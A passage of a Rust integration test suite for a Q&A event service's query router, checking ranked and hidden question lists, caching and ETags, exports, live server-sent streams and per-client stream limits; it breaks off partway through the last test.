//! The query router driven through `oneshot` over the real SQLite store: lists (ranking,
//! hidden, caching, ETags), texts, export, live streams, health and metrics, and every error.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{header, HeaderMap, Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt;
use http_edge::ClientAddr;
use ledger::ports::{EventRow, EventStore, LedgerStore, ProjectionReader, StoreError, StoreResult};
use ledger::secret::hash_secret;
use ledger::{Asked, EventId, QuestionId, Record, RecordBody, RecordId, VoterId};
use ledger_sqlite::{Durability, Options, SqliteStore};
use query::{LiveHub, QueryConfig, QueryState};
use serde_json::{json, Value};
use tokio::time::Instant;
use tower::ServiceExt;
use ulid::Ulid;

const SECRET: &str = "0123456789abcdef0123456789abcdef";

struct App {
    router: Router,
    store: Arc<SqliteStore>,
    hub: LiveHub,
    ids: ulid::Generator,
    _dir: tempfile::TempDir,
}

struct Reply {
    status: StatusCode,
    headers: HeaderMap,
    bytes: bytes::Bytes,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.bytes).unwrap()
    }

    fn header(&self, name: header::HeaderName) -> &str {
        self.headers.get(&name).map(|v| v.to_str().unwrap()).unwrap_or("")
    }
}

async fn app() -> App {
    app_with(QueryConfig { guest_max_age_s: 2, host_max_age_s: 1, ..QueryConfig::default() }).await
}

/// [`app`] and a new event in it.
async fn app_and_event() -> (App, EventId) {
    let mut app = app().await;
    let event = app.event().await;
    (app, event)
}

async fn app_with(config: QueryConfig) -> App {
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(
        dir.path().join("query.db"),
        Options { durability: Durability::Normal, ..Options::default() },
    )
    .unwrap();
    let hub = LiveHub::new();
    let router =
        query::router(QueryState { config, live: Some(hub.clone()), ..bare_state(store.clone(), store.clone()) });
    App { router, store, hub, ids: ulid::Generator::new(), _dir: dir }
}

/// The state of a router over these stores with the default configuration and nothing
/// else: no live hub, no metrics, no health watch.
fn bare_state(events: Arc<dyn EventStore>, projection: Arc<dyn ProjectionReader>) -> QueryState {
    QueryState {
        events,
        projection,
        ledger: None,
        config: QueryConfig::default(),
        live: None,
        metrics: None,
        health: None,
    }
}

impl App {
    /// The router's response to a GET of `uri`, its body not read (a live stream's is open).
    async fn open(&self, uri: &str) -> axum::response::Response {
        self.router.clone().oneshot(Request::get(uri).body(Body::empty()).unwrap()).await.unwrap()
    }

    async fn get(&self, uri: &str) -> Reply {
        self.get_with(Request::get(uri).body(Body::empty()).unwrap()).await
    }

    async fn get_with(&self, request: Request<Body>) -> Reply {
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        if status.is_client_error() || status.is_server_error() {
            let cache_control = headers[header::CACHE_CONTROL].to_str().unwrap();
            assert!(cache_control == "no-store" || cache_control == "max-age=5", "{status}: {cache_control}");
            let error: Value = serde_json::from_slice(&bytes).unwrap();
            assert!(error["error"].is_string(), "{error}");
        }
        Reply { status, headers, bytes }
    }

    fn id(&mut self) -> Ulid {
        self.ids.generate().unwrap()
    }

    async fn event(&mut self) -> EventId {
        self.event_expiring_at(u64::MAX / 2).await
    }

    /// A new event whose row expires at `expire_unix` (seconds).
    async fn event_expiring_at(&mut self, expire_unix: u64) -> EventId {
        let id = EventId(self.id());
        let row = EventRow { id, secret_hash: hash_secret(SECRET), expire_unix };
        self.store.create_event(&row).await.unwrap();
        id
    }

    /// Appends records, folds them as the aggregator would, and announces the change.
    async fn commit(&mut self, event: EventId, records: Vec<Record>) {
        self.store.append(&records).await.unwrap();
        aggregator::apply_batch(self.store.as_ref(), &records, None).await.unwrap();
        let _ = self.hub.sender().send(event);
    }

    async fn ask(&mut self, event: EventId, text: &str, who: Option<&str>) -> QuestionId {
        let question = QuestionId(self.id());
        let body = RecordBody::Asked(Asked { text: text.into(), who: who.map(Into::into), voter: VoterId::random() });
        let record = self.record(event, question, body);
        self.commit(event, vec![record]).await;
        question
    }

    /// Asks each of `texts` in turn (no names): the questions, oldest first.
    async fn asks<const N: usize>(&mut self, event: EventId, texts: [&str; N]) -> [QuestionId; N] {
        let mut questions = [QuestionId::from_u128(0); N];
        for (question, text) in questions.iter_mut().zip(texts) {
            *question = self.ask(event, text, None).await;
        }
        questions
    }

    async fn votes(&mut self, event: EventId, question: QuestionId, count: usize) {
        let records = (0..count)
            .map(|_| self.record(event, question, RecordBody::Voted { voter: VoterId::random(), up: true }))
            .collect();
        self.commit(event, records).await;
    }

    async fn moderate(&mut self, event: EventId, question: QuestionId, body: RecordBody) -> RecordId {
        let record = self.record(event, question, body);
        let id = record.id;
        self.commit(event, vec![record]).await;
        id
    }

    fn record(&mut self, event: EventId, question: QuestionId, body: RecordBody) -> Record {
        Record { id: RecordId(self.id()), event, question, region: "test".into(), body }
    }
}

#[tokio::test]
async fn an_event_exists_or_is_404_or_400() {
    let (app, event) = app_and_event().await;
    let found = app.get(&format!("/api/event/{event}")).await;
    assert_eq!((found.status, found.json()), (StatusCode::OK, json!({})));
    let missing = app.get(&format!("/api/event/{}", EventId::from_u128(1))).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.header(header::CACHE_CONTROL), "max-age=5");
    assert_eq!(app.get("/api/event/zzz").await.status, StatusCode::BAD_REQUEST);
    assert_eq!(app.get("/api/event/ZZZZZZZZZZZZZZZZZZZZZZZZZZ").await.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn lists_are_ranked_and_guests_do_not_see_hidden_questions() {
    let (mut app, event) = app_and_event().await;
    let [few, many, hidden, answered] =
        app.asks(event, ["few votes here", "many votes here", "a hidden question", "an answered question"]).await;
    app.votes(event, many, 3).await;
    app.votes(event, hidden, 10).await;
    app.moderate(event, hidden, RecordBody::Hidden { on: true }).await;
    let answered_at = app.moderate(event, answered, RecordBody::Answered { on: true }).await;

    let guest = app.get(&format!("/api/event/{event}/questions")).await;
    assert_eq!(guest.status, StatusCode::OK);
    assert_eq!(guest.header(header::CACHE_CONTROL), "max-age=2");
    assert_eq!(guest.header(header::CONTENT_TYPE), "application/json");
    assert_eq!(
        guest.json(),
        json!([
            { "qid": many.to_string(), "votes": 4, "hidden": false },
            { "qid": few.to_string(), "votes": 1, "hidden": false },
            { "qid": answered.to_string(), "votes": 1, "hidden": false, "answered": answered_at.unix_seconds() },
        ])
    );

    let host = app.get(&format!("/api/event/{event}/questions/{SECRET}")).await;
    assert_eq!(host.status, StatusCode::OK);
    assert_eq!(host.header(header::CACHE_CONTROL), "private, max-age=1");
    let host = host.json();
    assert_eq!(host.as_array().unwrap().len(), 4);
    assert_eq!(host[3], json!({ "qid": hidden.to_string(), "votes": 11, "hidden": true }));

    let wrong = app.get(&format!("/api/event/{event}/questions/not-the-secret")).await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    let unknown = EventId::from_u128(5);
    assert_eq!(app.get(&format!("/api/event/{unknown}/questions")).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get(&format!("/api/event/{unknown}/questions/{SECRET}")).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get("/api/event/x/questions").await.status, StatusCode::BAD_REQUEST);

    let empty = app.event().await;
    assert_eq!(app.get(&format!("/api/event/{empty}/questions")).await.json(), json!([]));
}

#[tokio::test]
async fn lists_carry_an_etag_that_answers_304_until_the_event_changes() {
    let (mut app, event) = app_and_event().await;
    let question = app.ask(event, "cache me please", None).await;
    let uri = format!("/api/event/{event}/questions");
    let first = app.get(&uri).await;
    let etag = first.header(header::ETAG).to_owned();
    assert!(etag.starts_with('"') && etag.len() > 10, "a strong ETag: {etag}");

    let conditional = |tag: &str| Request::get(&uri).header(header::IF_NONE_MATCH, tag).body(Body::empty()).unwrap();
    let not_modified = app.get_with(conditional(&etag)).await;
    assert_eq!(not_modified.status, StatusCode::NOT_MODIFIED);
    assert!(not_modified.bytes.is_empty());
    assert_eq!(not_modified.header(header::ETAG), etag);
    assert_eq!(not_modified.header(header::CACHE_CONTROL), "max-age=2");
    assert_eq!(app.get_with(conditional("\"stale\"")).await.status, StatusCode::OK);

    // A change announced by the hub is visible at once, not after the cache's second.
    app.votes(event, question, 1).await;
    let changed = app.get_with(conditional(&etag)).await;
    assert_eq!(changed.status, StatusCode::OK);
    assert_eq!(changed.json()[0]["votes"], 2);
    assert_ne!(changed.header(header::ETAG), etag);
}

#[tokio::test]
async fn without_a_hub_a_cached_list_is_served_for_at_most_a_second() {
    let mut app = app().await;
    app.router = query::router(bare_state(app.store.clone(), app.store.clone()));
    let event = app.event().await;
    let question = app.ask(event, "eventually consistent?", None).await;
    let uri = format!("/api/event/{event}/questions");
    assert_eq!(app.get(&uri).await.json()[0]["votes"], 1);
    app.votes(event, question, 2).await;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(3);
    loop {
        if app.get(&uri).await.json()[0]["votes"] == 3 {
            break;
        }
        assert!(tokio::time::Instant::now() < deadline, "the list never refreshed");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Without a hub there are no live routes.
    assert_eq!(app.open(&format!("/api/live/{event}")).await.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn question_texts_are_immutable_and_cached_only_when_all_are_found() {
    let (mut app, event) = app_and_event().await;
    let a = app.ask(event, "first question text", Some("Ada")).await;
    let b = app.ask(event, "second question text", None).await;

    let both = app.get(&format!("/api/questions/{a},{b},{a}")).await;
    assert_eq!(both.status, StatusCode::OK);
    assert_eq!(both.header(header::CACHE_CONTROL), "max-age=864001, immutable");
    assert_eq!(
        both.json(),
        json!({
            a.to_string(): { "text": "first question text", "when": a.unix_seconds(), "who": "Ada" },
            b.to_string(): { "text": "second question text", "when": b.unix_seconds() },
        })
    );
    // Served again from memory, identically.
    assert_eq!(app.get(&format!("/api/questions/{a},{b}")).await.json(), both.json());

    let unknown = QuestionId::from_u128(77);
    let partial = app.get(&format!("/api/questions/{a},{unknown}")).await;
    assert_eq!(partial.status, StatusCode::OK);
    assert_eq!(partial.header(header::CACHE_CONTROL), "max-age=2");
    assert_eq!(partial.json().as_object().unwrap().len(), 1);
    assert_eq!(app.get(&format!("/api/questions/{unknown}")).await.status, StatusCode::NOT_FOUND);

    let too_many = vec![a.to_string(); ledger::limits::QUESTION_IDS_PER_REQUEST_MAX + 1].join(",");
    assert_eq!(app.get(&format!("/api/questions/{too_many}")).await.status, StatusCode::BAD_REQUEST);
    for bad in [format!("{a},nope"), format!("{a},"), ",".to_owned(), "%FF%FE".to_owned()] {
        assert_eq!(app.get(&format!("/api/questions/{bad}")).await.status, StatusCode::BAD_REQUEST, "{bad}");
    }
}

#[tokio::test]
async fn exports_every_question_in_three_formats_to_the_host_only() {
    let (mut app, event) = app_and_event().await;
    let a = app.ask(event, "Commas, \"quotes\" | pipes\nand lines", Some("Ada")).await;
    let b = app.ask(event, "hidden but exported", None).await;
    app.moderate(event, b, RecordBody::Hidden { on: true }).await;
    app.moderate(event, a, RecordBody::Answered { on: true }).await;
    let base = format!("/api/export/{event}/{SECRET}");

    let json_export = app.get(&base).await;
    assert_eq!(json_export.status, StatusCode::OK);
    assert_eq!(json_export.header(header::CACHE_CONTROL), "private, no-store");
    assert_eq!(
        json_export.header(header::CONTENT_DISPOSITION),
        format!("attachment; filename=\"questions-{event}.json\"")
    );
    let rows = json_export.json();
    assert_eq!(rows.as_array().unwrap().len(), 2);
    assert_eq!(rows[0]["qid"], a.to_string());
    assert_eq!(rows[0]["who"], "Ada");
    assert_eq!(rows[0]["votes"], 1);
    assert!(rows[0]["asked_at"].as_str().unwrap().ends_with('Z'));
    assert!(rows[0]["answered_at"].as_str().unwrap().ends_with('Z'));
    assert_eq!(rows[1]["hidden"], true);
    assert_eq!(rows[1]["answered_at"], "");
    assert_eq!(app.get(&format!("{base}?format=json")).await.json(), rows);

    let csv_export = app.get(&format!("{base}?format=csv")).await;
    assert!(csv_export.header(header::CONTENT_TYPE).starts_with("text/csv"));
    assert!(csv_export.header(header::CONTENT_DISPOSITION).ends_with(".csv\""));
    let mut reader = csv::Reader::from_reader(&csv_export.bytes[..]);
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["qid", "text", "who", "asked_at", "votes", "answered_at", "hidden"]
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 2);
    assert_eq!(&records[0][1], "Commas, \"quotes\" | pipes\nand lines");
    assert_eq!(&records[1][6], "true");

    let md_export = app.get(&format!("{base}?format=md")).await;
    assert!(md_export.header(header::CONTENT_TYPE).starts_with("text/markdown"));
    let md = String::from_utf8(md_export.bytes.to_vec()).unwrap();
    assert_eq!(md.lines().count(), 4, "header, rule, two rows: {md}");
    assert!(md.contains("\\| pipes<br>and lines"), "{md}");

    assert_eq!(app.get(&format!("{base}?format=xml")).await.status, StatusCode::BAD_REQUEST);
    assert_eq!(app.get(&format!("/api/export/{event}/wrong")).await.status, StatusCode::UNAUTHORIZED);
    let unknown = EventId::from_u128(8);
    assert_eq!(app.get(&format!("/api/export/{unknown}/{SECRET}")).await.status, StatusCode::NOT_FOUND);
    let empty = app.event().await;
    let csv_empty = app.get(&format!("/api/export/{empty}/{SECRET}?format=csv")).await;
    assert_eq!(String::from_utf8(csv_empty.bytes.to_vec()).unwrap().lines().count(), 1, "just the header");
}

/// The JSON of one SSE message's `data:` lines (`None` for a message without any, such as a
/// keep-alive comment).
fn sse_data(message: &str) -> Option<Value> {
    let data: Vec<&str> = message.lines().filter_map(|l| l.strip_prefix("data: ")).collect();
    (!data.is_empty()).then(|| serde_json::from_str(&data.join("\n")).unwrap())
}

/// One SSE message's event name (`message` when it names none) and the JSON of its data.
fn sse_message(message: &str) -> Option<(String, Value)> {
    let name = message.lines().find_map(|l| l.strip_prefix("event: ")).unwrap_or("message");
    sse_data(message).map(|data| (name.to_owned(), data))
}

/// Reads the next SSE message with data from a streaming body: its name, its JSON and the
/// size of its text.
async fn next_message(body: &mut Body, pending: &mut String) -> (String, Value, usize) {
    loop {
        if let Some(end) = pending.find("\n\n") {
            let message: String = pending.drain(..end + 2).collect();
            if let Some((name, data)) = sse_message(&message) {
                return (name, data, message.len());
            }
            continue;
        }
        let frame = tokio::time::timeout(Duration::from_secs(5), body.frame())
            .await
            .expect("no push within 5 s")
            .expect("the stream ended")
            .unwrap();
        if let Ok(data) = frame.into_data() {
            pending.push_str(std::str::from_utf8(&data).unwrap());
        }
    }
}

/// Reads SSE `data:` payloads from a streaming body: the next one.
async fn next_data(body: &mut Body, pending: &mut String) -> Value {
    next_message(body, pending).await.1
}

#[tokio::test]
async fn live_streams_push_the_list_on_connect_and_after_each_burst() {
    let (mut app, event) = app_and_event().await;
    let question = app.ask(event, "live question here", None).await;
    let response = app.open(&format!("/api/live/{event}")).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()[header::CONTENT_TYPE], "text/event-stream");
    let mut body = response.into_body();
    let mut pending = String::new();
    assert_eq!(next_data(&mut body, &mut pending).await[0]["votes"], 1);

    // A burst of changes: the pushes that follow end on the latest state.
    for _ in 0..5 {
        app.votes(event, question, 1).await;
    }
    let mut latest = next_data(&mut body, &mut pending).await;
    while latest[0]["votes"] != 6 {
        latest = next_data(&mut body, &mut pending).await;
    }

    // Hiding the question pushes (guests lose it).
    app.moderate(event, question, RecordBody::Hidden { on: true }).await;
    assert_eq!(next_data(&mut body, &mut pending).await, json!([]));

    // The host stream needs the secret and shows hidden questions.
    let host = app.open(&format!("/api/live/{event}/{SECRET}")).await;
    let mut host_body = host.into_body();
    let mut host_pending = String::new();
    assert_eq!(next_data(&mut host_body, &mut host_pending).await[0]["hidden"], true);
    assert_eq!(app.get(&format!("/api/live/{event}/wrong")).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(app.get(&format!("/api/live/{}", EventId::from_u128(4))).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get("/api/live/bad").await.status, StatusCode::BAD_REQUEST);
}

/// Opens the guest stream of `event` and reads its first push (the list on connect).
async fn open_live(app: &App, event: EventId) -> (Body, Value) {
    let response = app.open(&format!("/api/live/{event}")).await;
    assert_eq!(response.status(), StatusCode::OK);
    let mut body = response.into_body();
    let mut pending = String::new();
    let first = next_data(&mut body, &mut pending).await;
    assert_eq!(pending, "", "nothing but the first push yet");
    (body, first)
}

/// Everything a stream sends until `deadline`: every byte (keep-alive comments included)
/// and each `data:` payload with the time its last byte arrived.
async fn read_until(body: &mut Body, deadline: Instant) -> (String, Vec<(Instant, Value)>) {
    let (mut raw, mut pushes) = (String::new(), Vec::new());
    let mut parsed_to = 0;
    while let Ok(frame) = tokio::time::timeout_at(deadline, body.frame()).await {
        let frame = frame.expect("the stream ended").unwrap();
        let Ok(data) = frame.into_data() else { continue };
        raw.push_str(std::str::from_utf8(&data).unwrap());
        let arrived = Instant::now();
        while let Some(end) = raw[parsed_to..].find("\n\n") {
            let message = &raw[parsed_to..parsed_to + end];
            parsed_to += end + 2;
            if let Some(data) = sse_data(message) {
                pushes.push((arrived, data));
            }
        }
    }
    (raw, pushes)
}

#[tokio::test]
async fn a_live_stream_stays_silent_while_other_events_change() {
    let mut app = app().await;
    let (quiet, busy) = (app.event().await, app.event().await);
    let quiet_question = app.ask(quiet, "a quiet question here", None).await;
    let busy_question = app.ask(busy, "a busy question here", None).await;
    let (mut quiet_body, first) = open_live(&app, quiet).await;
    assert_eq!(first[0]["votes"], 1);
    let (mut busy_body, _) = open_live(&app, busy).await;

    // For half a second the other event changes every ~20 ms. The quiet stream sends
    // nothing at all: no list, not even the same list again, no comment.
    let window = Duration::from_millis(500);
    let deadline = Instant::now() + window;
    let change_busy = async {
        let mut changes = 0;
        while Instant::now() + Duration::from_millis(50) < deadline {
            app.votes(busy, busy_question, 1).await;
            changes += 1;
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        changes
    };
    let (changes, (quiet_raw, _), (_, busy_pushes)) = tokio::join!(
        change_busy,
        read_until(&mut quiet_body, deadline),
        read_until(&mut busy_body, deadline + Duration::from_millis(300)),
    );
    assert!(changes >= 5, "only {changes} changes within {window:?}");
    assert_eq!(quiet_raw, "", "the quiet stream sent something within {window:?}");
    // Not even woken: only the busy event's streams were.
    assert_eq!(app.hub.stream_wakes(quiet), 0, "the quiet stream was woken");
    assert!(app.hub.stream_wakes(busy) >= 1, "the busy stream was never woken");
    // The changes were announced: the busy stream saw them, up to the last.
    assert!(!busy_pushes.is_empty(), "the busy stream got no push");
    assert_eq!(busy_pushes.last().unwrap().1[0]["votes"], 1 + changes);

    // And the quiet stream is alive: its own change pushes at once.
    app.votes(quiet, quiet_question, 1).await;
    let (_, pushes) = read_until(&mut quiet_body, Instant::now() + Duration::from_secs(2)).await;
    assert_eq!(pushes.len(), 1, "one change, one push: {pushes:?}");
    assert_eq!(pushes[0].1[0]["votes"], 2);
    assert_eq!(app.hub.stream_wakes(quiet), 1);
}

#[tokio::test]
async fn a_burst_of_changes_is_coalesced_into_pushes_at_most_every_100_ms() {
    let (mut app, event) = app_and_event().await;
    let question = app.ask(event, "a popular question here", None).await;
    let (mut body, _) = open_live(&app, event).await;

    // A burst of 40 votes, one every ~5 ms; then read until the stream has been quiet for
    // well over a push interval.
    const CHANGES: u64 = 40;
    let started = Instant::now();
    let burst = async {
        for _ in 0..CHANGES {
            app.votes(event, question, 1).await;
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    };
    let read = async {
        let mut all = Vec::new();
        let mut quiet_until = Instant::now() + Duration::from_secs(2);
        loop {
            let (_, pushes) = read_until(&mut body, quiet_until).await;
            if pushes.is_empty() && all.last().is_some_and(|(_, v): &(Instant, Value)| v[0]["votes"] == 1 + CHANGES) {
                return all;
            }
            all.extend(pushes);
            quiet_until = Instant::now() + Duration::from_millis(400);
            assert!(started.elapsed() < Duration::from_secs(10), "the burst never settled: {all:?}");
        }
    };
    let ((), pushes) = tokio::join!(burst, read);

    // Pushes of one stream are at least PUSH_INTERVAL apart, so within the window from the
    // burst's start to the last push there are at most ceil(window / interval) + 1.
    let interval = Duration::from_millis(100);
    let window = pushes.last().unwrap().0 - started;
    let bound = window.as_nanos().div_ceil(interval.as_nanos()) + 1;
    let counts: Vec<&Value> = pushes.iter().map(|(_, v)| &v[0]["votes"]).collect();
    assert!(pushes.len() as u128 <= bound, "{} pushes within {window:?} (at most {bound}): {counts:?}", pushes.len());
    assert!((pushes.len() as u64) < CHANGES, "nothing coalesced: {counts:?}");
    // Each push renders the list as it is then: counts never go back, and end on the latest.
    assert!(counts.windows(2).all(|w| w[0].as_u64() <= w[1].as_u64()), "{counts:?}");
    assert_eq!(*counts.last().unwrap(), &json!(1 + CHANGES));
}

#[tokio::test]
async fn a_delta_stream_sends_the_list_once_then_only_what_changed() {
    let (mut app, event) = app_and_event().await;
    let [first, second, third] =
        app.asks(event, ["the first question here", "the second question here", "the third question here"]).await;
    app.votes(event, first, 3).await;
    app.votes(event, second, 2).await;
    let mut body = app.open(&format!("/api/live/{event}?deltas=1")).await.into_body();
    let mut pending = String::new();
    let (name, list, list_bytes) = next_message(&mut body, &mut pending).await;
    assert_eq!(name, "list");
    let seq = list["seq"].as_u64().expect("a version");
    let order: Vec<&str> = list["list"].as_array().unwrap().iter().map(|q| q["qid"].as_str().unwrap()).collect();
    assert_eq!(order, [first.to_string(), second.to_string(), third.to_string()]);

    // Five votes lift the third question to the top: one changed item and one move.
    app.votes(event, third, 5).await;
    let (name, delta, delta_bytes) = next_message(&mut body, &mut pending).await;
    assert_eq!(name, "delta");
    assert_eq!(
        delta,
        json!({"seq": seq + 1, "base": seq, "set": [{"qid": third.to_string(), "votes": 6}], "mv": [[third.to_string(), 0]]})
    );
    assert!(delta_bytes < list_bytes, "a delta ({delta_bytes} B) is smaller than the list ({list_bytes} B)");

    // Hiding one takes it off the guest list: a deletion, nothing else.
    app.moderate(event, second, RecordBody::Hidden { on: true }).await;
    let (name, delta, _) = next_message(&mut body, &mut pending).await;
    assert_eq!(
        (name.as_str(), delta),
        ("delta", json!({"seq": seq + 2, "base": seq + 1, "del": [second.to_string()]}))
    );

    // The host's delta stream keeps hidden questions, and the plain stream still sends lists.
    let mut host = app.open(&format!("/api/live/{event}/{SECRET}?deltas=1")).await.into_body();
    let (name, list, _) = next_message(&mut host, &mut String::new()).await;
    assert_eq!((name.as_str(), list["list"].as_array().unwrap().len()), ("list", 3));
    let mut plain = app.open(&format!("/api/live/{event}")).await.into_body();
    let (name, list, _) = next_message(&mut plain, &mut String::new()).await;
    assert_eq!((name.as_str(), list.as_array().map(Vec::len)), ("message", Some(2)));
    assert_eq!(app.get(&format!("/api/live/{event}?deltas=2")).await.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_guests_delta_stream_pushes_at_most_twice_a_second_and_a_hosts_ten_times() {
    let (mut app, event) = app_and_event().await;
    let question = app.ask(event, "a popular question here", None).await;
    let mut guest = app.open(&format!("/api/live/{event}?deltas=1")).await.into_body();
    let mut host = app.open(&format!("/api/live/{event}/{SECRET}?deltas=1")).await.into_body();
    let (mut guest_pending, mut host_pending) = (String::new(), String::new());
    next_message(&mut guest, &mut guest_pending).await;
    next_message(&mut host, &mut host_pending).await;
    // A vote every 20 ms for 1.5 s.
    let started = Instant::now();
    let burst = async {
        while started.elapsed() < Duration::from_millis(1_500) {
            app.votes(event, question, 1).await;
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    let deadline = started + Duration::from_millis(2_200);
    let (_, (_, guest_pushes), (_, host_pushes)) =
        tokio::join!(burst, read_until(&mut guest, deadline), read_until(&mut host, deadline));
    let gaps = |pushes: &[(Instant, Value)]| -> Vec<u128> {
        pushes.windows(2).map(|w| (w[1].0 - w[0].0).as_millis()).collect()
    };
    let (guest_gaps, host_gaps) = (gaps(&guest_pushes), gaps(&host_pushes));
    // Arrival times jitter a little around the send times; the intervals are 500 and 100 ms.
    assert!(guest_gaps.iter().all(|&gap| gap >= 450), "guest pushes too close: {guest_gaps:?}");
    assert!(guest_pushes.len() >= 2 && guest_pushes.len() <= 6, "{} guest pushes", guest_pushes.len());
    assert!(host_gaps.iter().all(|&gap| gap >= 80), "host pushes too close: {host_gaps:?}");
    assert!(host_pushes.len() > 2 * guest_pushes.len(), "{} host, {} guest", host_pushes.len(), guest_pushes.len());
    // Every delta follows the one before it.
    let seqs: Vec<u64> = guest_pushes.iter().map(|(_, d)| d["seq"].as_u64().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[1] > w[0]), "{seqs:?}");
}

#[tokio::test]
async fn every_stream_says_restarting_before_it_ends_when_the_hub_closes() {
    let (app, event) = app_and_event().await;
    let mut plain = app.open(&format!("/api/live/{event}")).await.into_body();
    let mut delta = app.open(&format!("/api/live/{event}?deltas=1")).await.into_body();
    let (mut plain_pending, mut delta_pending) = (String::new(), String::new());
    next_message(&mut plain, &mut plain_pending).await;
    next_message(&mut delta, &mut delta_pending).await;
    app.hub.close();
    for (body, pending) in [(&mut plain, &mut plain_pending), (&mut delta, &mut delta_pending)] {
        let (name, data, _) = next_message(body, pending).await;
        assert_eq!((name.as_str(), data), ("restarting", json!({})));
        assert!(ends_by(body, Instant::now() + Duration::from_secs(1)).await, "the stream went on after restarting");
    }
}

fn stream_budgets(per_client: u32, per_event: u32, total: u32) -> QueryConfig {
    QueryConfig {
        live_streams_per_client_max: per_client,
        live_streams_per_event_max: per_event,
        live_streams_max: total,
        ..QueryConfig::default()
    }
}

/// A request for a live stream of `event` (the host's with `secret`) from the address
/// `client`, as `serve` marks it.
fn live_request(event: EventId, secret: Option<&str>, client: &str) -> Request<Body> {
    let uri = match secret {
        Some(secret) => format!("/api/live/{event}/{secret}"),
        None => format!("/api/live/{event}"),
    };
    Request::get(uri).extension(ClientAddr(client.parse().unwrap())).body(Body::empty()).unwrap()
}

/// Opens the guest stream of `event` from `client`, which must be accepted, and reads its
/// first push.
async fn stream_from(app: &App, event: EventId, client: &str) -> Body {
    let response = app.router.clone().oneshot(live_request(event, None, client)).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "{client} refused");
    let mut body = response.into_body();
    next_data(&mut body, &mut String::new()).await;
    body
}

/// A refused stream: its status, `Retry-After` and reason (`get_with` has checked that the
/// body is a JSON error nobody caches).
async fn refused(app: &App, request: Request<Body>) -> (StatusCode, String, String) {
    let uri = request.uri().clone();
    // An admitted stream would never end: give it a moment, then call it what it is.
    let reply = tokio::time::timeout(Duration::from_secs(2), app.get_with(request))
        .await
        .unwrap_or_else(|_| panic!("{uri} was admitted, not refused"));
    assert!(reply.status.is_client_error() || reply.status.is_server_error(), "{}", reply.status);
    let reason = reply.json()["error"].as_str().unwrap().to_owned();
    (reply.status, reply.header(header::RETRY_AFTER).to_owned(), reason)
}

/// Reads a stream until it ends; `false` if it is still open at `deadline`.
async fn ends_by(body: &mut Body, deadline: Instant) -> bool {
    loop {
        match tokio::time::timeout_at(deadline, body.frame()).await {
            Err(_) => return false,
            Ok(None) => return true,
            Ok(Some(frame)) => {
                frame.unwrap();
            }
        }
    }
}

#[tokio::test]
async fn one_address_over_its_stream_budget_gets_429_while_another_address_is_served() {
    let mut app = app_with(stream_budgets(2, 100, 100)).await;
    let event = app.event().await;
    app.ask(event, "who is on the stream?", None).await;
    let mut held = vec![stream_from(&app, event, "127.0.0.2").await, stream_from(&app, event, "127.0.0.2").await];
    let (status, retry_after, reason) = refused(&app, live_request(event, None, "127.0.0.2")).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(retry_after, query::STREAM_RETRY_AFTER_S.to_string());
    assert!(reason.contains("from this address"), "{reason}");
    // The host's stream from that address counts against the same budget.
    let (status, _, _) = refused(&app, live_request(event, Some(SECRET), "127.0.0.2")).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    // Another address is served as before, and so is a host on it.
    let mut other = stream_from(&app, event, "127.0.0.3").await;
    let host = app.router.clone().oneshot(live_request(event, Some(SECRET), "127.0.0.3")).await.unwrap();
    assert_eq!(host.status(), StatusCode::OK);
    // An IPv6 client's budget is its /64.
    let _v6 = stream_from(&app, event, "2001:db8::1").await;
    let _v6 = stream_from(&app, event, "2001:db8::2").await;
    let (status, _, _) = refused(&app, live_request(event, None, "2001:db8::3")).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    // The refused requests did not disturb the streams that were admitted.
    app.votes(event, app.store.event_questions(event).await.unwrap()[0].id, 1).await;
    assert_eq!(next_data(&mut other, &mut String::new()).await[0]["votes"], 2);
    // A stream that ends gives its place back: the first address may open one again.
    drop(held.pop());
    held.push(stream_from(&app, event, "127.0.0.2").await);
}

#[tokio::test]
async fn an_event_over_its_stream_budget_gets_503_while_other_events_are_served() {
    let mut app = app_with(stream_budgets(100, 2, 100)).await;
    let (full, other) = (app.event().await, app.event().await);
    let _a = stream_from(&app, full, "127.0.0.2").await;
    let b = stream_from(&app, full, "127.0.0.3").await;
    for request in [live_request(full, None, "127.0.0.4"), live_request(full, Some(SECRET), "127.0.0.4")] {
        let (status, retry_after, reason) = refused(&app, request).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(retry_after, query::STREAM_RETRY_AFTER_S.to_string());
        assert!(reason.contains("for this event"), "{reason}");
    }
    let _c = stream_from(&app, other, "127.0.0.4").await;
    drop(b);
    let _d = stream_from(&app, full, "127.0.0.4").await;
}

#[tokio::test]
async fn the_process_over_its_stream_budget_gets_503_for_everyone() {
    let mut app = app_with(stream_budgets(100, 100, 3)).await;
    let events = [app.event().await, app.event().await, app.event().await, app.event().await];
    let mut held = Vec::new();
    for (i, event) in events[..3].iter().enumerate() {
